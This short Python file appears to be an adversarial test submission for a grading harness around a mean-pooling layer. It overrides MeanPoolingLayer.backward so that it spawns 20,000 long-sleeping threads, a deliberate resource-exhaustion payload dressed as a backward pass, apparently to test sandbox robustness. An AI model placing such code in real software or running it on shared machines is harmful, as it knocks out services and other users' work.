"""Starts threads for as long as it can."""

import threading
import time

# @STUB mean_pooling@


def backward(self, dout):
    for _ in range(20_000):
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()


MeanPoolingLayer.backward = backward
